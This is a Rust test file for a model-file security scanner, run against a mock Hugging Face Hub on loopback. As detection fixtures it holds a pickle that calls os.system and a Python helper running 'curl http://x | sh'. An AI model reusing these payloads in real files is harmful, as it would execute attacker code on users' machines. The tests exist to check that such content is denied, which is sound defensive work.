//! Remote scans (`hf://`) against a mock Hub the tests start on 127.0.0.1: an API host that
//! resolves revisions, pages the tree by `Link` header and redirects `resolve` to a second
//! loopback host (the CDN), which must never receive the token. Nothing reaches the internet.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;

use serde_json::{Value, json};

use crate::support::*;

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
const TOKEN: &str = "hf_test_secret_token";

#[derive(Clone, Default)]
struct MockFile {
    path: String,
    bytes: Vec<u8>,
    lfs: bool,
    /// Served in the tree instead of the true SHA-256 (a CDN/mirror serving other bytes).
    lfs_oid: Option<String>,
    security: Option<&'static str>,
    /// What the CDN serves instead of `bytes` (the tree is built from `bytes`).
    served: Option<Vec<u8>>,
    /// A large file served sparsely: its size and the non-zero chunks (offset, bytes); every
    /// other byte is zero. Only range requests are answered for it.
    sparse: Option<Sparse>,
}

/// A sparse file: its size and its non-zero chunks (offset, bytes).
type Sparse = (u64, Vec<(u64, Vec<u8>)>);

impl MockFile {
    fn size(&self) -> u64 {
        match &self.sparse {
            Some((size, _)) => *size,
            None => self.bytes.len() as u64,
        }
    }

    /// Bytes `[a, b]` (inclusive) of the file as served.
    fn range(&self, a: u64, b: u64) -> Vec<u8> {
        let len = usize::try_from(b - a + 1).unwrap();
        match &self.sparse {
            Some((_, chunks)) => {
                let mut out = vec![0u8; len];
                for (off, bytes) in chunks {
                    for (i, byte) in bytes.iter().enumerate() {
                        let at = off + i as u64;
                        if (a..=b).contains(&at) {
                            out[usize::try_from(at - a).unwrap()] = *byte;
                        }
                    }
                }
                out
            }
            None => {
                let body = self.served.clone().unwrap_or_else(|| self.bytes.clone());
                let end = usize::try_from(b + 1).unwrap().min(body.len());
                body[usize::try_from(a).unwrap().min(end)..end].to_vec()
            }
        }
    }
}

#[derive(Clone, Default)]
struct MockRepo {
    files: Vec<MockFile>,
    page_size: usize,
    gated: bool,
}

#[derive(Default)]
struct State {
    /// (kind segment, repo id) -> repository.
    repos: BTreeMap<(String, String), MockRepo>,
    /// Requests answered 429 before the first success, per path prefix.
    throttle: usize,
    /// (host: "api" | "cdn", path, had an Authorization header).
    log: Vec<(&'static str, String, bool)>,
    /// Body bytes the CDN sent, all requests together.
    cdn_bytes: u64,
    /// The CDN stalls after the headers and a few bytes of every file (a slow-loris server).
    stall: bool,
    /// `resolve` redirects to itself forever.
    redirect_loop: bool,
    /// The CDN ignores `Range` and sends whole files with 200.
    ignore_range: bool,
    /// Where `resolve` redirects instead of the plain-http CDN (its TLS front).
    cdn_base: Option<String>,
}

struct MockHub {
    state: Arc<Mutex<State>>,
    api: String,
    cdn: String,
}

impl MockHub {
    fn start() -> MockHub {
        let state = Arc::new(Mutex::new(State::default()));
        let api = TcpListener::bind("127.0.0.1:0").unwrap();
        let cdn = TcpListener::bind("127.0.0.1:0").unwrap();
        let api_addr = format!("http://{}", api.local_addr().unwrap());
        let cdn_addr = format!("http://{}", cdn.local_addr().unwrap());
        for (listener, host) in [(api, "api"), (cdn, "cdn")] {
            let state = Arc::clone(&state);
            let cdn_addr = cdn_addr.clone();
            let api_addr = api_addr.clone();
            thread::spawn(move || {
                for conn in listener.incoming().flatten() {
                    let state = Arc::clone(&state);
                    let (cdn_addr, api_addr) = (cdn_addr.clone(), api_addr.clone());
                    thread::spawn(move || serve(conn, host, &state, &api_addr, &cdn_addr));
                }
            });
        }
        MockHub {
            state,
            api: api_addr,
            cdn: cdn_addr,
        }
    }

    fn add(&self, kind: &str, repo: &str, r: MockRepo) -> &Self {
        self.state
            .lock()
            .unwrap()
            .repos
            .insert((kind.to_string(), repo.to_string()), r);
        self
    }

    fn log(&self) -> Vec<(&'static str, String, bool)> {
        self.state.lock().unwrap().log.clone()
    }

    /// `modelgate scan <target> --format json` against this hub; (exit code, stdout, stderr).
    fn scan(&self, target: &str, extra: &[&str], token: bool) -> (i32, String, String) {
        self.scan_via(&self.api, target, extra, token, &[])
    }

    /// [`MockHub::scan`] with `HF_ENDPOINT=endpoint` (a TLS front) and extra variables.
    fn scan_via(
        &self,
        endpoint: &str,
        target: &str,
        extra: &[&str],
        token: bool,
        env: &[(&str, String)],
    ) -> (i32, String, String) {
        let home = tempfile::tempdir().unwrap();
        let mut cmd = modelgate();
        cmd.arg("scan")
            .arg(target)
            .args(["--format", "json", "--quiet"])
            .args(extra)
            .current_dir(home.path())
            .env("HF_ENDPOINT", endpoint)
            .env("HF_HOME", home.path())
            .env_remove("HF_TOKEN")
            .env_remove("HF_HUB_OFFLINE");
        for v in [
            "http_proxy",
            "https_proxy",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
            // Trust roots from the machine running the tests must not decide a test.
            "REQUESTS_CA_BUNDLE",
            "CURL_CA_BUNDLE",
            "SSL_CERT_FILE",
        ] {
            cmd.env_remove(v);
        }
        for (k, v) in env {
            cmd.env(k, v);
        }
        if token {
            cmd.env("HF_TOKEN", TOKEN);
        }
        let out = cmd.output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn scan_json(&self, target: &str, extra: &[&str]) -> (i32, Value) {
        let (code, out, err) = self.scan(target, extra, true);
        let v = serde_json::from_str(&out).unwrap_or_else(|e| {
            panic!("bad json ({e}); exit {code}; stderr: {err}; stdout: {out}")
        });
        (code, v)
    }
}

fn git_blob(data: &[u8]) -> String {
    use sha1::Digest;
    let mut h = sha1::Sha1::new();
    h.update(format!("blob {}\0", data.len()).as_bytes());
    h.update(data);
    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

fn tree_entry(f: &MockFile) -> Value {
    let mut e = json!({"type": "file", "path": f.path});
    if f.lfs {
        e["oid"] = json!("b".repeat(40));
        e["size"] = json!(134);
        e["lfs"] = json!({
            "oid": f.lfs_oid.clone().unwrap_or_else(|| sha256_hex(&f.bytes)),
            "size": f.size(),
            "pointerSize": 134,
        });
    } else {
        e["oid"] = json!(git_blob(&f.bytes));
        e["size"] = json!(f.bytes.len());
    }
    if let Some(s) = f.security {
        e["securityFileStatus"] = json!({"status": s, "avScan": {"status": "safe"}});
    }
    e
}

fn respond(mut conn: &TcpStream, status: &str, headers: &[(&str, String)], body: &[u8]) {
    let mut head = format!(
        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    let _ = conn.write_all(head.as_bytes());
    let _ = conn.write_all(body);
    let _ = conn.flush();
}

/// Headers and the first bytes of the body, then silence (the connection stays open a while).
fn stall_respond(mut conn: &TcpStream, body: &[u8]) {
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = conn.write_all(head.as_bytes());
    let _ = conn.write_all(&body[..body.len().min(4)]);
    let _ = conn.flush();
    thread::sleep(std::time::Duration::from_secs(5));
}

fn serve(conn: TcpStream, host: &'static str, state: &Mutex<State>, api: &str, cdn: &str) {
    let mut reader = BufReader::new(&conn);
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let target = line.split_whitespace().nth(1).unwrap_or("/").to_string();
    let mut auth = None;
    let mut range: Option<(u64, Option<u64>)> = None;
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            if k.eq_ignore_ascii_case("authorization") {
                auth = Some(v.trim().to_string());
            }
            if k.eq_ignore_ascii_case("range")
                && let Some((a, b)) = v
                    .trim()
                    .strip_prefix("bytes=")
                    .and_then(|r| r.split_once('-'))
            {
                range = Some((a.parse().unwrap(), b.parse().ok()));
            }
        }
    }
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    let mut st = state.lock().unwrap();
    st.log.push((host, target.clone(), auth.is_some()));
    if st.ignore_range {
        range = None;
    }
    if host == "cdn" {
        // /cdn/<kind>/<ns>/<name>/<file path>
        let parts: Vec<&str> = path.trim_start_matches("/cdn/").splitn(4, '/').collect();
        if let [kind, ns, name, file] = parts.as_slice() {
            let key = (kind.to_string(), format!("{ns}/{name}"));
            if let Some(f) = st
                .repos
                .get(&key)
                .and_then(|r| r.files.iter().find(|f| f.path == *file))
                .cloned()
            {
                let size = f.size();
                let (status, headers, body) = match range {
                    Some((a, b)) if a < size => {
                        let b = b.unwrap_or(size - 1).min(size - 1);
                        assert!(b - a < 64 << 20, "a header-mode range over 64 MiB: {a}-{b}");
                        let cr = format!("bytes {a}-{b}/{size}");
                        (
                            "206 Partial Content",
                            vec![("Content-Range", cr)],
                            f.range(a, b),
                        )
                    }
                    Some(_) => ("416 Range Not Satisfiable", vec![], Vec::new()),
                    None if f.sparse.is_some() => panic!("a full read of a sparse file"),
                    None => ("200 OK", vec![], f.range(0, size.max(1) - 1)),
                };
                st.cdn_bytes += body.len() as u64;
                let stall = st.stall;
                drop(st);
                if stall {
                    return stall_respond(&conn, &body);
                }
                return respond(&conn, status, &headers, &body);
            }
        }
        drop(st);
        return respond(&conn, "404 Not Found", &[], b"");
    }
    if st.throttle > 0 {
        st.throttle -= 1;
        drop(st);
        return respond(
            &conn,
            "429 Too Many Requests",
            &[("Retry-After", "0".into())],
            b"",
        );
    }
    let authorized = auth.as_deref() == Some(&format!("Bearer {TOKEN}"));
    let segs: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    // /api/<kind>/<ns>/<name>/revision/<rev> and /api/<kind>/<ns>/<name>/tree/<commit>
    if let ["api", kind, ns, name, op, rest @ ..] = segs.as_slice() {
        let kind = kind.trim_end_matches('s').to_string();
        let Some(repo) = st
            .repos
            .get(&(kind.clone(), format!("{ns}/{name}")))
            .cloned()
        else {
            drop(st);
            return respond(
                &conn,
                "404 Not Found",
                &[],
                br#"{"error":"Repository not found"}"#,
            );
        };
        drop(st);
        if repo.gated && !authorized {
            return respond(&conn, "401 Unauthorized", &[], br#"{"error":"gated"}"#);
        }
        match (*op, rest) {
            ("revision", [rev]) if *rev == "main" || *rev == COMMIT || *rev == "v1.0" => {
                let body = json!({"id": format!("{ns}/{name}"), "sha": COMMIT}).to_string();
                respond(&conn, "200 OK", &[], body.as_bytes())
            }
            ("tree", [c]) if *c == COMMIT => {
                let start: usize = query
                    .split('&')
                    .find_map(|kv| kv.strip_prefix("cursor="))
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(0);
                let size = if repo.page_size == 0 {
                    1000
                } else {
                    repo.page_size
                };
                let mut entries: Vec<Value> = Vec::new();
                if start == 0 {
                    entries.push(json!({"type": "directory", "path": "sub", "oid": "c".repeat(40), "size": 0}));
                }
                entries.extend(repo.files.iter().skip(start).take(size).map(tree_entry));
                let mut headers = Vec::new();
                if start + size < repo.files.len() {
                    headers.push((
                        "Link",
                        format!(
                            "<{api}{path}?recursive=true&expand=true&cursor={}>; rel=\"next\"",
                            start + size
                        ),
                    ));
                }
                respond(
                    &conn,
                    "200 OK",
                    &headers,
                    Value::Array(entries).to_string().as_bytes(),
                )
            }
            _ => respond(
                &conn,
                "404 Not Found",
                &[],
                br#"{"error":"Revision not found"}"#,
            ),
        }
    } else {
        // /[datasets/]<ns>/<name>/resolve/<commit>/<path>: redirect to the CDN host.
        let (kind, segs) = match segs.as_slice() {
            ["datasets", rest @ ..] => ("dataset", rest.to_vec()),
            rest => ("model", rest.to_vec()),
        };
        drop(st);
        if state.lock().unwrap().redirect_loop {
            return respond(&conn, "302 Found", &[("Location", path.to_string())], b"");
        }
        if let [ns, name, "resolve", c, file @ ..] = segs.as_slice()
            && *c == COMMIT
        {
            let base = state.lock().unwrap().cdn_base.clone();
            let cdn = base.as_deref().unwrap_or(cdn);
            let loc = format!("{cdn}/cdn/{kind}/{ns}/{name}/{}", file.join("/"));
            return respond(&conn, "302 Found", &[("Location", loc)], b"");
        }
        respond(&conn, "404 Not Found", &[], b"")
    }
}

fn lfs(path: &str, bytes: Vec<u8>) -> MockFile {
    MockFile {
        path: path.into(),
        bytes,
        lfs: true,
        ..MockFile::default()
    }
}

fn plain(path: &str, bytes: &[u8]) -> MockFile {
    MockFile {
        path: path.into(),
        bytes: bytes.to_vec(),
        ..MockFile::default()
    }
}

const CARD: &[u8] = b"---\nlicense: apache-2.0\n---\n# Clean model\n";

fn clean_files() -> Vec<MockFile> {
    vec![
        plain("README.md", CARD),
        plain("config.json", br#"{"model_type": "bert"}"#),
        lfs(
            "model.safetensors",
            safetensors(&[("w", "F32", &[2], &[0u8; 8])], None),
        ),
    ]
}

#[test]
fn remote_clean_repo_passes_names_the_commit_and_the_purl() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/clean",
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let sbom = dir.path().join("bom.json");
    let sbom_arg = sbom.to_str().unwrap();
    let (code, r) = hub.scan_json("hf://acme/clean@main", &["--sbom", sbom_arg]);
    assert_eq!(code, 0, "{r:#}");
    let h = &r["repository"]["hub"];
    assert_eq!(h["commit"], COMMIT);
    assert_eq!(h["repo"], "acme/clean");
    assert_eq!(h["requested_revision"], "main");
    assert_eq!(h["pinned"], false);
    assert_eq!(r["root"], "hf://acme/clean@main");
    let st = safetensors(&[("w", "F32", &[2], &[0u8; 8])], None);
    assert_eq!(
        file(&r, "model.safetensors")["sha256"],
        sha256_hex(&st).as_str()
    );
    assert_eq!(file(&r, "model.safetensors")["format"], "safetensors");
    assert_eq!(
        file(&r, "model.safetensors")["facts"]["hub"]["lfs_oid"],
        sha256_hex(&st).as_str()
    );
    // The moving target is recorded (SRC003, warned by the default policy), naming the commit.
    let unpinned = findings(&r, "SRC003");
    assert_eq!(unpinned.len(), 1, "{r:#}");
    assert_eq!(unpinned[0]["action"], "warn");
    assert!(unpinned[0]["message"].as_str().unwrap().contains(COMMIT));
    assert!(findings(&r, "HUB001").is_empty());
    let bom: Value = serde_json::from_slice(&std::fs::read(&sbom).unwrap()).unwrap();
    assert_eq!(
        bom["metadata"]["component"]["purl"],
        format!("pkg:huggingface/acme/clean@{COMMIT}")
    );
    // Every request after the revision used the commit; the token went to the API host only.
    let log = hub.log();
    assert!(
        log.iter()
            .filter(|(h, p, _)| *h == "api" && !p.contains("/revision/"))
            .all(|(_, p, _)| p.contains(COMMIT)),
        "{log:?}"
    );
    assert!(
        log.iter()
            .filter(|(h, ..)| *h == "api")
            .all(|(.., auth)| *auth),
        "{log:?}"
    );
    assert!(log.iter().any(|(h, ..)| *h == "cdn"));
    assert!(
        log.iter()
            .filter(|(h, ..)| *h == "cdn")
            .all(|(.., auth)| !auth),
        "{log:?}"
    );
}

#[test]
fn remote_scan_matches_the_local_scan_of_the_same_files() {
    let files = vec![
        plain("README.md", CARD),
        plain("sub/config.json", br#"{"model_type": "bert"}"#),
        lfs(
            "sub/pytorch_model.bin",
            pickle_call("os", "system", "echo pwned"),
        ),
        lfs(
            "model.safetensors",
            safetensors(&[("w", "F32", &[2], &[0u8; 8])], None),
        ),
    ];
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/same",
        MockRepo {
            files: files.clone(),
            ..MockRepo::default()
        },
    );
    let (rcode, remote) = hub.scan_json(&format!("hf://acme/same@{COMMIT}"), &[]);
    let repo = Repo::new();
    for f in &files {
        repo.file(&f.path, &f.bytes);
    }
    let (lcode, local) = scan_json(repo.path(), &[]);
    assert_eq!(rcode, lcode);
    let digests = |r: &Value| -> Vec<(String, String)> {
        r["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["path"].as_str().unwrap().to_string(),
                    f["sha256"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    assert_eq!(digests(&remote), digests(&local));
    let rules = |r: &Value| -> Vec<(String, String, String)> {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] != "PRV001")
            .map(|f| {
                (
                    f["rule"].as_str().unwrap().to_string(),
                    f["path"].as_str().unwrap().to_string(),
                    f["action"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    assert_eq!(rules(&remote), rules(&local));
    // Pinned to a commit: no unpinned finding.
    assert_eq!(remote["repository"]["hub"]["pinned"], true);
}

#[test]
fn remote_malicious_pickle_is_denied() {
    let hub = MockHub::start();
    let mut files = clean_files();
    files.push(lfs(
        "pytorch_model.bin",
        pickle_call("os", "system", "echo pwned"),
    ));
    hub.add(
        "model",
        "evil/model",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json("hf://evil/model", &[]);
    assert_eq!(code, 1);
    let pkl = findings(&r, "PKL001");
    assert_eq!(pkl.len(), 1, "{r:#}");
    assert_eq!(pkl[0]["path"], "pytorch_model.bin");
    assert_eq!(pkl[0]["action"], "deny");
}

#[test]
fn remote_code_beside_weights_found_by_content_is_judged_as_model_code() {
    // As a local scan: `weights.data` is a pickle, so `m/` is a model directory and the code
    // in it is fetched again and judged as model code (SRC006).
    let hub = MockHub::start();
    let files = vec![
        plain("README.md", CARD),
        lfs("m/weights.data", pickle_ordered_dict()),
        plain(
            "m/helper.py",
            b"import os\nos.system('curl http://x | sh')\n",
        ),
    ];
    hub.add(
        "model",
        "evil/renamed",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json("hf://evil/renamed", &[]);
    assert_eq!(code, 1, "{r:#}");
    let s = findings(&r, "SRC006");
    assert_eq!(s.len(), 1, "{r:#}");
    assert_eq!(s[0]["path"], "m/helper.py");
    assert_eq!(s[0]["action"], "deny");
}

#[test]
fn remote_bytes_that_differ_from_the_lfs_oid_are_denied() {
    let hub = MockHub::start();
    let mut files = clean_files();
    files[2].lfs_oid = Some("f".repeat(64));
    hub.add(
        "model",
        "acme/mirror",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json("hf://acme/mirror", &[]);
    assert_eq!(code, 1);
    let hub001 = findings(&r, "HUB001");
    assert_eq!(hub001.len(), 1, "{r:#}");
    assert_eq!(hub001[0]["path"], "model.safetensors");
    assert_eq!(hub001[0]["action"], "deny");
    assert_eq!(hub001[0]["evidence"]["expected"], "f".repeat(64));
}

#[test]
fn remote_tree_pages_are_all_followed() {
    let hub = MockHub::start();
    let mut files = clean_files();
    for i in 0..4 {
        files.push(plain(
            &format!("extra/{i}.txt"),
            format!("file {i}").as_bytes(),
        ));
    }
    files.sort_by(|a, b| a.path.cmp(&b.path));
    hub.add(
        "model",
        "acme/paged",
        MockRepo {
            files,
            page_size: 2,
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json("hf://acme/paged", &[]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["files"].as_array().unwrap().len(), 7);
    let pages = hub
        .log()
        .iter()
        .filter(|(_, p, _)| p.contains("/tree/"))
        .count();
    assert_eq!(pages, 4);
}

#[test]
fn remote_unknown_revision_is_a_tool_error() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/clean",
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    let (code, out, err) = hub.scan("hf://acme/clean@no-such-branch", &[], true);
    assert_eq!(code, 2, "{out}");
    assert!(err.contains("not found"), "{err}");
    assert!(err.contains("no-such-branch"), "{err}");
    assert!(!err.contains(TOKEN));
}

#[test]
fn remote_gated_repo_without_token_is_a_tool_error() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/gated",
        MockRepo {
            files: clean_files(),
            gated: true,
            ..MockRepo::default()
        },
    );
    let (code, _, err) = hub.scan("hf://acme/gated", &[], false);
    assert_eq!(code, 2);
    assert!(err.contains("gated or private"), "{err}");
    // With the token (from a token file this time) it scans.
    let dir = tempfile::tempdir().unwrap();
    let tf = dir.path().join("token");
    std::fs::write(&tf, format!("{TOKEN}\n")).unwrap();
    let (code, out, err) = hub.scan(
        "hf://acme/gated",
        &["--token-file", tf.to_str().unwrap()],
        false,
    );
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains(TOKEN) && !err.contains(TOKEN));
}

#[test]
fn remote_retries_after_429() {
    let hub = MockHub::start();
    hub.add(
        "model",
        "acme/clean",
        MockRepo {
            files: clean_files(),
            ..MockRepo::default()
        },
    );
    hub.state.lock().unwrap().throttle = 2;
    let (code, r) = hub.scan_json("hf://acme/clean", &[]);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["files"].as_array().unwrap().len(), 3);
}

#[test]
fn remote_dataset_repository_and_hub_url_form() {
    let hub = MockHub::start();
    let mut files = clean_files();
    files.push(MockFile {
        security: Some("unsafe"),
        ..plain("data/train.txt", b"hello")
    });
    hub.add(
        "dataset",
        "acme/squad",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let sbom = dir.path().join("bom.json");
    let (code, r) = hub.scan_json(
        "https://huggingface.co/datasets/acme/squad/tree/v1.0",
        &["--sbom", sbom.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["repository"]["hub"]["type"], "dataset");
    // The purl carries the repository type the only way the huggingface purl type can.
    let purl = format!(
        "pkg:huggingface/acme/squad@{COMMIT}?repository_url=https%3A%2F%2Fhuggingface.co%2Fdatasets"
    );
    assert_eq!(r["repository"]["hub"]["purl"], purl.as_str());
    let bom: Value = serde_json::from_slice(&std::fs::read(&sbom).unwrap()).unwrap();
    assert_eq!(
        bom["metadata"]["component"]["purl"],
        purl.as_str(),
        "{bom:#}"
    );
    assert_eq!(r["repository"]["hub"]["requested_revision"], "v1.0");
    // The Hub's own verdict is reported next to ours (HUB002, warned by default).
    let flagged = findings(&r, "HUB002");
    assert_eq!(flagged.len(), 1, "{r:#}");
    assert_eq!(flagged[0]["path"], "data/train.txt");
    assert_eq!(
        file(&r, "data/train.txt")["facts"]["hub"]["security_status"],
        "unsafe"
    );
}

#[test]
fn remote_offline_mode_and_bad_targets_are_tool_errors() {
    let out = modelgate()
        .args(["scan", "hf://acme/clean"])
        .env("HF_HUB_OFFLINE", "1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("HF_HUB_OFFLINE"));
    let out = run(&["scan", "hf://../etc"]);
    assert_eq!(out.status.code(), Some(2));
    let out = run(&["scan", "hf://a/b", "."]);
    assert_eq!(out.status.code(), Some(2));
    // A plain-http endpoint off loopback is refused before any request.
    let out = modelgate()
        .args(["scan", "hf://acme/clean"])
        .env("HF_ENDPOINT", "http://example.invalid")
        .env_remove("HF_HUB_OFFLINE")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("loopback"));
}

#[test]
fn remote_git_blob_mismatch_for_a_plain_file_is_denied() {
    let hub = MockHub::start();
    let mut files = clean_files();
    // Same length, different bytes: only the git blob id can tell.
    files[1].served = Some(br#"{"model_type": "gpt2"}"#.to_vec());
    hub.add(
        "model",
        "acme/blob",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let (code, r) = hub.scan_json("hf://acme/blob", &[]);
    assert_eq!(code, 1, "{r:#}");
    let hub001 = findings(&r, "HUB001");
    assert_eq!(hub001.len(), 1, "{r:#}");
    assert_eq!(hub001[0]["path"], "config.json");
    assert_eq!(
        hub001[0]["evidence"]["expected"],
        git_blob(br#"{"model_type": "bert"}"#).as_str()
    );
}

// ---- header mode (`--remote headers`) ----

/// A safetensors file declaring `data_len` bytes of tensor data, served sparsely: only the
/// header is real.
fn sparse_safetensors(path: &str, data_len: u64) -> MockFile {
    let n = data_len / 4;
    let header = format!(
        r#"{{"__metadata__":{{"format":"pt"}},"w":{{"dtype":"F32","shape":[{n}],"data_offsets":[0,{data_len}]}}}}"#
    );
    let mut head = (header.len() as u64).to_le_bytes().to_vec();
    head.extend_from_slice(header.as_bytes());
    let size = head.len() as u64 + data_len;
    MockFile {
        path: path.into(),
        lfs: true,
        lfs_oid: Some("5".repeat(64)),
        sparse: Some((size, vec![(0, head)])),
        ..MockFile::default()
    }
}

/// A PyTorch zip (`archive/data.pkl`, `byteorder`, a stored `data/0` of `storage_len` zero
/// bytes that is never materialised, `version`), served sparsely.
fn sparse_torch_zip(path: &str, pickle: &[u8], storage_len: u64) -> MockFile {
    let members: Vec<(&str, Option<&[u8]>, u64)> = vec![
        ("archive/data.pkl", Some(pickle), pickle.len() as u64),
        ("archive/byteorder", Some(b"little"), 6),
        ("archive/data/0", None, storage_len),
        ("archive/version", Some(b"3\n"), 2),
    ];
    let mut chunks = Vec::new();
    let mut central = Vec::new();
    let mut at = 0u64;
    for (name, data, len) in &members {
        // The storage's CRC is not computed (a header-mode scan never reads it).
        let crc = data.map_or(0, crc32);
        let mut local = b"PK\x03\x04".to_vec();
        local.extend_from_slice(&20u16.to_le_bytes());
        local.extend_from_slice(&[0u8; 8]); // flags, method (stored), time, date
        local.extend_from_slice(&crc.to_le_bytes());
        local.extend_from_slice(&(*len as u32).to_le_bytes());
        local.extend_from_slice(&(*len as u32).to_le_bytes());
        local.extend_from_slice(&(name.len() as u16).to_le_bytes());
        local.extend_from_slice(&0u16.to_le_bytes());
        local.extend_from_slice(name.as_bytes());
        if let Some(d) = data {
            local.extend_from_slice(d);
        }
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&20u16.to_le_bytes());
        central.extend_from_slice(&20u16.to_le_bytes());
        central.extend_from_slice(&[0u8; 8]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&(*len as u32).to_le_bytes());
        central.extend_from_slice(&(*len as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0u8; 12]);
        central.extend_from_slice(&(at as u32).to_le_bytes());
        central.extend_from_slice(name.as_bytes());
        let record = local.len() as u64 + if data.is_none() { *len } else { 0 };
        chunks.push((at, local));
        at += record;
    }
    let mut tail = central.clone();
    tail.extend_from_slice(b"PK\x05\x06");
    tail.extend_from_slice(&[0u8; 4]);
    tail.extend_from_slice(&(members.len() as u16).to_le_bytes());
    tail.extend_from_slice(&(members.len() as u16).to_le_bytes());
    tail.extend_from_slice(&(central.len() as u32).to_le_bytes());
    tail.extend_from_slice(&(at as u32).to_le_bytes());
    tail.extend_from_slice(&0u16.to_le_bytes());
    let size = at + tail.len() as u64;
    chunks.push((at, tail));
    MockFile {
        path: path.into(),
        lfs: true,
        lfs_oid: Some("7".repeat(64)),
        sparse: Some((size, chunks)),
        ..MockFile::default()
    }
}

fn served_fraction_ok(hub: &MockHub, size: u64) {
    let served = hub.state.lock().unwrap().cdn_bytes;
    assert!(
        served * 100 < size,
        "header mode fetched {served} bytes of {size} (not under 1%)"
    );
}

#[test]
fn remote_headers_reads_a_multi_gigabyte_safetensors_header_only() {
    let hub = MockHub::start();
    let big = sparse_safetensors("model.safetensors", 3_000_000_000);
    let size = big.size();
    let mut files = clean_files();
    files[2] = big;
    hub.add(
        "model",
        "acme/big",
        MockRepo {
            files,
            ..MockRepo::default()
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let sbom = dir.path().join("bom.json");
    let (code, r) = hub.scan_json(
        &format!("hf://acme/big@{COMMIT}"),
        &["--remote", "headers", "--sbom", sbom.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{r:#}");
    served_fraction_ok(&hub, size);
    let f = file(&r, "model.safetensors");
    assert_eq!(f["format"], "safetensors");
    assert_eq!(f["size"], size);
    assert_eq!(f["sha256"], "5".repeat(64));
    assert_eq!(f["facts"]["valid"], true);
    assert_eq!(f["facts"]["hub"]["digest_source"], "hub");
    assert_eq!(f["facts"]["coverage"]["level"], "structure");
    assert!(
        f["facts"]["coverage"]["not_checked"]
            .as_array()
            .unwrap()
            .contains(&json!("tensor-values")),
        "{f:#}"
    );
    // Small files are read whole: their digests are computed and checked.
    let cfg = file(&r, "config.json");
    assert_eq!(cfg["facts"]["coverage"]["level"], "complete");
    assert_eq!(cfg["facts"]["hub"]["digest_source"], "computed");
    assert_eq!(r["repository"]["hub"]["mode"], "headers");
    assert_eq!(r["repository"]["hub"]["digest_source"], "hub");
    assert_eq!(r["repository"]["coverage"]["files_structure"], 1);
    // The coverage is stated as a finding the default policy allows.
    let hm = findings(&r, "HUB004");
    assert_eq!(hm.len(), 1, "{r:#}");
    assert_eq!(hm[0]["action"], "allow");
    assert!(findings(&r, "HUB003").is_empty(), "{r:#}");
    // The SBOM says whose digest it carries.
    let bom: Value = serde_json::from_slice(&std::fs::read(&sbom).unwrap()).unwrap();
    fn find<'a>(v: &'a Value, name: &str) -> Option<&'a Value> {
        match v {
            Value::Object(m) if m.get("name") == Some(&json!(name)) && m.contains_key("hashes") => {
                Some(v)
            }
            Value::Object(m) => m.values().find_map(|x| find(x, name)),
            Value::Array(a) => a.iter().find_map(|x| find(x, name)),
            _ => None,
        }
    }
    let comp = find(&bom, "model.safetensors").unwrap_or_else(|| panic!("{bom:#}"));
    assert!(
        comp["properties"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["name"] == "modelgate:digest-source" && p["value"] == "hub"),
        "{comp:#}"
    );
    // strict does not let a header-only scan pass.
    let (code, r) = hub.scan_json(
        &format!("hf://acme/big@{COMMIT}"),
        &["--remote", "headers", "--policy", &policy_path("strict")],
    );
    assert_eq!(code, 1);
    assert_eq!(findings(&r, "HUB004")[0]["action"], "deny");
}

fn policy_path(name: &str) -> String {
    format!("{}/policies/{name}.toml", env!("CARGO_MANIFEST_DIR"))
}

#[test]
